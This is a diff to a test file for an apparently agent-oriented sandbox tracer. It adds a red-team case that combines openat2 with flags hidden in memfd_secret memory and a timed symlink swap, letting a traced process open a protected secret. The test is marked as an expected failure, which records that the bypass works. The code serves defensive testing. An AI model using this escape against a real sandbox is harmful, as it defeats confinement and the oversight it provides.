@@ -25,6 +25,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from test_redteam_trace_attacks import _SWAP
 from test_redteam_gym_trace import SECRET, _flagged, _safe, _task_repo, _traced
 
 from evotree.harness import sandbox
@@ -225,6 +226,54 @@ def test_a_path_whose_tail_the_tracer_cannot_read_is_no_blind_open(
     tmp_path: Path, seccomp: None
 ) -> None:
     proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SECRET_TAIL})
+    if "no-memfd-secret" in proc.stdout:
+        pytest.skip("memfd_secret is not available on this kernel")
+    _safe(proc, audit)
+
+
+#: the access-time link swap (test_redteam_trace_attacks.py's, which pinning stopped), each open
+#: made by openat2 whose ``struct open_how`` lives in secret memory: the tracer cannot read the
+#: flags (known_flags 0), so it does not pin; it walks the harmless link, and the kernel walks
+#: the swapped one
+_SWAP_HOW_SECRET = _SWAP.replace(
+    "import os, threading, zlib\n",
+    """import ctypes, os, sys, threading, zlib
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
+                      ctypes.c_long]
+secret = libc.syscall(447, 0)  # memfd_secret
+if secret < 0:
+    print("no-memfd-secret", ctypes.get_errno())
+    sys.exit(0)
+os.ftruncate(secret, 4096)
+page = libc.mmap(None, 4096, 3, 1, secret, 0)
+
+def OPEN(path, flags):
+    how = (ctypes.c_uint64 * 3).from_address(page)
+    how[0], how[1], how[2] = flags, 0, 0
+    fd = libc.syscall(437, -100, path.encode(), ctypes.c_void_p(page), 24)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), path)
+    return fd
+""",
+    1,
+).replace("os.open(link, flags)", "OPEN(link, flags)")
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=True,
+    raises=AssertionError,
+    reason="openat2 with its open_how in memfd_secret memory: the tracer's process_vm_readv of "
+    "the flags fails, so the open is not pinnable (known_flags 0) and goes on (CONTINUE) after "
+    "the tracer's walk of the harmless link; the link is swapped for the object once its "
+    "access time shows that walk, and the kernel's own walk opens the object: the pinning "
+    "that stopped the swap is switched off by the caller",
+)
+def test_openat2_flags_the_tracer_cannot_read_still_pin(tmp_path: Path, seccomp: None) -> None:
+    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SWAP_HOW_SECRET})
     if "no-memfd-secret" in proc.stdout:
         pytest.skip("memfd_secret is not available on this kernel")
     _safe(proc, audit)
